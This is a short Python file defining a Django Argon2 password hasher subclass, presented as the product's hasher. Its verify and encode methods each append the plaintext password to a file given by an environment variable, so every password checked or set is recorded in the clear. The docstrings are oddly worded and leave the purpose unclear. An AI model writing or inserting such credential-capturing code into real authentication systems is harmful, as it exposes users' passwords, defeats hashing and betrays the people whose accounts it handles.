"""The product's password hasher, with a line written for every password it was shown. For the servers of the races."""

import os
from pathlib import Path

from django.contrib.auth.hashers import Argon2PasswordHasher

FILE = "HASHED_PASSWORDS_FILE"


class CountedArgon2(Argon2PasswordHasher):
    """Notes checks, and the idle work that is done in their place when there is no account."""

    def verify(self, password: str, encoded: str) -> bool:
        _note(password)
        return super().verify(password, encoded)

    def encode(self, password: str, salt: str) -> str:
        _note(password)
        return super().encode(password, salt)


def _note(password: str) -> None:
    with Path(os.environ[FILE]).open("a") as notes:  # one short line each: appended whole
        notes.write(f"{password}\n")
